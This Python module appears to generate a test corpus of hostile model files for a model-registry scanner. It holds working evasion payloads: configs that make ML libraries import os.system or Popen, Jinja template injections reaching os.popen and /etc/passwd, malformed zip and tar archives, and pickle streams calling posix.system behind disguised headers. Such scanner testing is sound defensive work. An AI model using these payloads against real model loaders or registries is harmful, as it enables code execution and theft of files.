"""Tricks after the second corpus: documents that libraries import by, records that two readers take apart.

Written on 2026-11-25 before any of them was tried: 15 of 125 were missed then. Three of those were taken out:
nothing loads them (a notebook, a path in a field that no library reads), or ``scan`` refuses them by a check
that the corpus leaves out (a safetensors file without tensors). One was given the archive it belongs in, and
the other eleven were mended.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zlib

from registry_gate.testing.hostile import ZipEntry, safetensors_bytes, torch_zip, zip_bytes
from registry_gate.testing.hostile_containers import MAGIC, tar_bytes
from registry_gate.testing.hostile_pickles import pickle_that_would_run, short_text

Files = dict[str, bytes]
_HONEST = b"\x80\x02}."
_PKL = "archive/data.pkl"


def _json(document: object) -> bytes:
    return json.dumps(document).encode()


def documents(command: str) -> Files:
    """Configurations by which a library imports, fetches or opens something."""
    call = {"class_path": "subprocess.Popen", "init_args": {"args": command}}
    lookup = {"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}
    return {
        # peft imports "parent_library" for a model class of its own
        "peft-parent-library/adapter_config.json": _json(
            {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}
        ),
        # mlflow imports "loader_module" when it loads the model
        "mlflow-loader/MLmodel": b"flavors:\n  python_function:\n    loader_module: os\n    data: .\n",
        "mlflow-code/MLmodel": b"flavors:\n  python_function:\n    code: code\n    loader_module: own\n",
        "lightning-class-path/config.yaml": b"model:\n  class_path: os.system\n  init_args: ['true']\n",
        "class-path-in-json/config.json": _json({"model": call}),
        "diffusers-scheduler/model_index.json": _json(
            {"_class_name": "StableDiffusionPipeline", "scheduler": ["subprocess", "Popen"]}
        ),
        "diffusers-custom-class/model_index.json": _json({"_class_name": ["my_pipeline", "Pipe"]}),
        "tokenizer-auto-map/tokenizer_config.json": _json(
            {"auto_map": {"AutoTokenizer": ["tokenization_x.X", None]}}
        ),
        "processor-auto-map/preprocessor_config.json": _json({"auto_map": {"AutoProcessor": "p.P"}}),
        "remote-auto-map/config.json": _json({"auto_map": {"AutoModel": "other/repo--modeling_x.Model"}}),
        "sentence-module/modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]),
        "keras-vocabulary/config.json": _json({"config": {"layers": [lookup]}, "class_name": "Sequential"}),
        "keras-registered/config.json": _json(
            {"module": "builtins", "class_name": "exec", "config": {}, "registered_name": "exec"}
        ),
        "hparams-tag/hparams.yaml": b"a: !!python/name:os.system ''\n",
        "yaml-object-new/hparams.yaml": b"a: !!python/object/new:subprocess.Popen [['true']]\n",
        "yaml-merge/config.yaml": b"x: &x\n  _target_: os.system\nmodel:\n  <<: *x\n",
        "template-import/chat_template.jinja": b"{% import '/etc/passwd' as x %}{{ x }}",
        "template-include/chat_template.jinja": b"{% include '../../secret' %}",
        "template-cycler/chat_template.jinja": b"{{ cycler.__init__.__globals__.os.popen('true').read() }}",
        "template-format/chat_template.jinja": b"{{ '{0.__class__}'.format(messages) }}",
        "template-map/tokenizer_config.json": _json(
            {"chat_template": "{{ messages | map(attribute='__class__') | list }}"}
        ),
        "template-hex/chat_template.jinja": b"{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "tokenizer-outside/tokenizer_config.json": _json({"tokenizer_file": "../../tokenizer.json"}),
        "skops/model.skops": zip_bytes(
            [
                ZipEntry(
                    "schema.json",
                    _json({"__class__": "system", "__module__": "os", "__loader__": "ObjectNode"}),
                )
            ]
        ),
        "requirements/requirements.txt": b"--index-url http://127.0.0.1/simple\nevil\n",
        "setup/setup.py": b"import os\n",
        "handler/handler.py": b"class EndpointHandler: ...\n",
        "shell/install.sh": f"#!/bin/sh\n{command}\n".encode(),
        "site/sitecustomize.pth": b"import os\n",
    }


def _patched(archive: bytes, magic: bytes, at: int, form: str, *values: int) -> bytes:
    """An archive with some numbers of its last record of a kind written over."""
    found = bytearray(archive)
    struct.pack_into(form, found, archive.rfind(magic) + at, *values)
    return bytes(found)


def _with_local_extra(archive: bytes, field: bytes) -> bytes:
    """A one-member archive whose local header alone has an extra field."""
    length = struct.unpack_from("<H", archive, 26)[0]
    body = archive[:28] + struct.pack("<H", len(field)) + archive[30 : 30 + length] + field
    rest = archive[30 + length :]
    end = rest.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", rest, end + 16)[0] + len(field)
    return body + rest[: end + 16] + struct.pack("<I", start) + rest[end + 20 :]


def zips(command: str) -> Files:
    """Zip records that disagree, in places the first corpora left alone."""
    evil = pickle_that_would_run(command)
    honest, alone = torch_zip(_HONEST), zip_bytes([ZipEntry(_PKL, _HONEST)])
    central = b"PK\x01\x02"
    zip64 = struct.pack("<HHQ", 1, 8, 9)
    files = {
        "disk-number": _patched(honest, b"PK\x05\x06", 4, "<H", 3),
        "directory-disk": _patched(honest, b"PK\x05\x06", 6, "<H", 3),
        "directory-size": _patched(honest, b"PK\x05\x06", 12, "<I", 7),
        "directory-earlier": _patched(honest, b"PK\x05\x06", 16, "<I", 4),
        "size-lie": _patched(honest, central, 24, "<I", 1),
        "packed-size-lie": _patched(honest, central, 20, "<I", 1),
        "offset-lie": _patched(honest, central, 42, "<I", 1),
        "local-extra-zip64": _with_local_extra(alone, zip64),
        "local-extra-hidden": _with_local_extra(alone, struct.pack("<HH", 0xCAFE, len(evil)) + evil),
        **{
            f"method-{method}": zip_bytes([ZipEntry(_PKL, evil, method=method)])
            for method in (1, 6, 9, 12, 20, 93, 95, 98)
        },
        "folder-name": zip_bytes([ZipEntry(_PKL, _HONEST), ZipEntry(_PKL + "/", evil)]),
        "composed-twice": zip_bytes(
            [
                ZipEntry(_PKL, _HONEST),
                ZipEntry("archive/caf\u00e9", evil),
                ZipEntry("archive/cafe\u0301", evil),
            ]
        ),
        "root-by-case": zip_bytes([ZipEntry(_PKL, _HONEST), ZipEntry("Archive/data.pkl", evil)]),
        "double-slash": zip_bytes([ZipEntry(_PKL, _HONEST), ZipEntry("archive//data.pkl", evil)]),
        "drive": zip_bytes([ZipEntry(_PKL, _HONEST), ZipEntry("C:/data.pkl", evil)]),
        "local-nul": zip_bytes(
            [ZipEntry(_PKL, evil, local_name="archive/data\0pkl"), ZipEntry("archive/version", b"3\n")]
        ),
        "constants": torch_zip(_HONEST, {"constants.pkl": evil, "code/__torch__.py": b"x = 1\n"}),
        # torch.package and torch.export keep pickles and shared objects in archives of their own
        "package": zip_bytes(
            [ZipEntry("m/.data/extern_modules", b"os\n"), ZipEntry("m/model/model.pkl", evil)]
        ),
        "exported": zip_bytes(
            [
                ZipEntry("m/archive_format", b"pt2"),
                ZipEntry("m/data/aotinductor/model/a.so", b"\x7fELF" + bytes(60)),
            ]
        ),
        "script-before": zip_bytes([ZipEntry(_PKL, _HONEST)], prefix=b"#!/bin/sh\ntrue\nexit\n"),
        "end-in-a-member": torch_zip(_HONEST, {"data/0": b"PK\x05\x06" + bytes(18)})
        + b"PK\x05\x06"
        + bytes(18),
        "wheel": zip_bytes([ZipEntry("a.dist-info/METADATA", b"Name: a\n"), ZipEntry("a.py", b"x = 1\n")]),
    }
    return {f"{case}/pytorch_model.bin": content for case, content in files.items()}


def _tar(kind: bytes, name: str, link: str = "", data: bytes = b"") -> bytes:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(data)
    return info.tobuf(tarfile.GNU_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024)


def _gnu_sparse(data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("notes.txt")
        info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "pickle"}
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def tars(command: str) -> Files:
    """Members that are not files, two archives in a row, sizes in another base."""
    evil = pickle_that_would_run(command)
    parts = {"sys_info": _HONEST, "storages": b"\x80\x02K\x00.", "tensors": b"\x80\x02K\x00."}
    files = {
        "hard-link": _tar(tarfile.LNKTYPE, "pickle", "/etc/passwd"),
        "device": _tar(tarfile.CHRTYPE, "pickle"),
        "fifo": _tar(tarfile.FIFOTYPE, "pickle"),
        "sparse": _gnu_sparse(evil),
        "two-in-a-row": tar_bytes({**parts, "pickle": _HONEST}) + tar_bytes({"pickle": evil}),
        "absolute": tar_bytes({"/etc/model.pkl": evil}),
        "checksum": bytes(b ^ (index == 150) for index, b in enumerate(tar_bytes({"a.pkl": evil}))),
        "vendor-type": _tar(b"V", "volume", data=evil),
    }
    return {f"{case}/pytorch_model.bin": content for case, content in files.items()}


def headers(command: str) -> Files:
    """Headers of safetensors and NumPy that no writer makes."""
    evil = pickle_that_would_run(command)
    entry = '{"dtype":"U8","shape":[4],"data_offsets":[0,4]}'
    texts = {
        "dtype-twice": '{"a":{"dtype":"U8","dtype":"I8","shape":[4],"data_offsets":[0,4]}}',
        "unknown-field": '{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4],"loader":"os.system"}}',
        "lower-case": '{"a":{"dtype":"u8","shape":[4],"data_offsets":[0,4]}}',
        "metadata-list": f'{{"__metadata__":["x"],"a":{entry}}}',
        "metadata-nested": f'{{"__metadata__":{{"a":{{"b":"c"}}}},"a":{entry}}}',
        "metadata-twice": f'{{"__metadata__":{{}},"__metadata__":{{"format":"pt"}},"a":{entry}}}',
        "reversed": '{"a":{"dtype":"U8","shape":[4],"data_offsets":[4,0]}}',
        "three-offsets": '{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4,4]}}',
        "exponent": '{"a":{"dtype":"U8","shape":[4e0],"data_offsets":[0,4]}}',
        "surrogate": f'{{"\\ud800":{entry}}}',
        "empty-name": f'{{"":{entry}}}',
        "nul-name": f'{{"a\\u0000b":{entry}}}',
        "array": f"[{entry}]",
        "spaces-first": f'  {{"a":{entry}}}',
        "text-behind": f'{{"a":{entry}}} {{"b":{entry}}}',
        "too-many-dimensions": '{"a":{"dtype":"U8","shape":[' + "1," * 5000 + '4],"data_offsets":[0,4]}}',
    }
    files = {
        f"{name}/model.safetensors": safetensors_bytes(text.encode(), bytes(4))
        for name, text in texts.items()
    }
    invalid = f'{{"a":{entry}}}'.encode().replace(b'"a"', b'"\xff"')
    arrays = {
        "negative": "{'descr': '<f4', 'fortran_order': False, 'shape': (-4,), }",
        "wrapping": "{'descr': '<f4', 'fortran_order': False, 'shape': (4611686018427387904, 4), }",
        "extra-key": "{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'x': 1}",
        "order": "{'descr': '<f4', 'fortran_order': 7, 'shape': (1,), }",
        "titles": "{'descr': [(('t', 'a'), '|O')], 'fortran_order': False, 'shape': (1,), }",
        "concatenated": "{'descr': '<f4' 'x', 'fortran_order': False, 'shape': (1,), }",
        "call": "{'descr': dict(a=1), 'fortran_order': False, 'shape': (1,), }",
    }
    for name, text in arrays.items():
        raw = text.encode() + b"\n"
        npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + bytes(4) + evil
        files[f"npy-{name}/a.npy"] = npy[: -len(evil)] if name in ("extra-key", "order") else npy
    return files | {
        "not-unicode/model.safetensors": safetensors_bytes(invalid, bytes(4)),
        "length-beyond/model.safetensors": struct.pack("<Q", 2**63) + b"{}",
        "length-wraps/model.safetensors": struct.pack("<Q", 2**64 - 8) + b"{}" + bytes(8),
        "empty/model.safetensors": b"",
        "npy-version-9/a.npy": b"\x93NUMPY\x09\x00" + bytes(4) + evil,
        "npz-folders/a.npz": zip_bytes([ZipEntry("../a.npy", evil), ZipEntry("b/c.npy", evil)]),
    }


def streams(command: str) -> Files:
    """Programs that end, begin or hide in another way."""
    evil, say = pickle_that_would_run(command), short_text(command)
    namespace = b"cargparse\nNamespace\n)\x81"
    hidden = zlib.compress(evil)
    files: Files = {
        "state-that-is-called/model.pkl": b"\x80\x02"
        + namespace
        + b"}"
        + short_text("__setstate__")
        + b"cposix\nsystem\nsb"
        + say
        + b"b.",
        "factory/model.pkl": b"\x80\x02ccollections\ndefaultdict\ncposix\nsystem\n\x85R.",
        "setstate-of-a-listed-name/model.pkl": b"\x80\x02"
        + namespace
        + b"}"
        + short_text("__setstate__")
        + b"c__builtin__\nbytearray\nsbJ\xff\xff\xff\x7fb.",
        "reduce-ex/model.pkl": b"\x80\x02ccopyreg\n__reduce_ex__\n" + say + b"K\x02\x86R.",
        "newobj-ex/model.pkl": b"\x80\x04cposix\nsystem\n" + say + b"\x85}\x92.",
        "legacy-magic-as-text/pytorch_model.bin": MAGIC[:2] + b"L119547037146038801333356L\n." + evil,
        "many-stops/model.pkl": b"N." * 300 + evil,
        "protocol-6/model.pkl": b"\x80\x06" + evil[2:],
        "deep-tuples/model.pkl": b"\x80\x02" + b"(" * 100_000 + evil[2:],
        "packed-literal-in-a-tuple/model.pkl": b"\x80\x03(B"
        + struct.pack("<I", len(hidden))
        + hidden
        + b"K\x01t.",
        "base64-literal/model.pkl": b"\x80\x02cbase64\nb64decode\n" + say + b"\x85R.",
        "escaped-text/model.pkl": b"Vos\n0cos\nsystem\n(V\\u0074rue\ntR.",
        "python-2-string/model.pkl": b"cos\nsystem\n(S'" + command.encode() + b"'\ntR.",
    }
    heads = {
        "lzip": b"LZIP\x01",
        "compress": b"\x1f\x9d\x90",
        "cab": b"MSCF\x00\x00\x00\x00",
        "ar": b"!<arch>\n",
        "cpio": b"070701",
        "squashfs": b"hsqs",
        "snappy": b"\xff\x06\x00\x00sNaPpY",
        "jar": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
        "wasm": b"\x00asm\x01\x00\x00\x00",
        "mach-o": b"\xcf\xfa\xed\xfe",
        "parquet": b"PAR1",
        "r-data": b"RDX3\n",
        "lua": b"\x1bLua",
    }
    for name, head in heads.items():
        files[f"{name}/pytorch_model.bin"] = head + evil
    return files | {"pickle-in-gzip-twice/model.pkl": gzip.compress(gzip.compress(evil, mtime=0), mtime=0)}


FAMILIES = {
    "library-documents": documents,
    "odd-records": zips,
    "odd-members": tars,
    "impossible-headers": headers,
    "odd-programs": streams,
}
